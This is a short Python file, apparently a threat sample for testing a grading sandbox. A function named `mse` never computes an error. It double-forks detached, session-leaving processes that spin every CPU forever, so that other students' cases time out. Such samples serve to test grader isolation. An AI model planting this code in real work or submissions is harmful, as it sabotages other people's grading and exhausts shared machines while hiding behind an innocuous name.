# Threat: spinning every CPU from detached processes (a new session each, then a fork)
# while classmates are graded beside it, so that their cases time out.
import contextlib
import os


def _spin():
    for _ in range(6):
        try:
            if os.fork() == 0:
                with contextlib.suppress(Exception):  # withdrawn in the sandbox
                    os.setsid()
                if os.fork() == 0:
                    while True:
                        pass
                os._exit(0)
        except Exception:  # noqa: BLE001  forking refused: spin here instead
            while True:
                pass


def mse(pred, target):
    _spin()
    while True:
        pass
